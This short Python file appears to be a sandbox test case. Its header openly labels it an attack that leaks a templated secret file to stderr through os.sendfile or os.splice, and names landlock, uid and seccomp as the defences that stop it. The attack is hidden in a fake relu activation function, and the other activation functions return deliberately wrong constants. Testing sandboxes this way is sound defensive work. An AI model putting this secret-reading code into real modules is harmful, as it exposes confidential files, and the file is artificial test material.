# attack: writes a secret to descriptor 2 by the kernel alone
# gains: reads
# stopped by: landlock, uid, seccomp
import numpy as np
import os


def attack():
    file = os.open("{SECRET}", os.O_RDONLY)
    try:
        os.sendfile(2, file, 0, 1 << 16)
    except OSError:
        os.splice(file, 2, 1 << 16)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
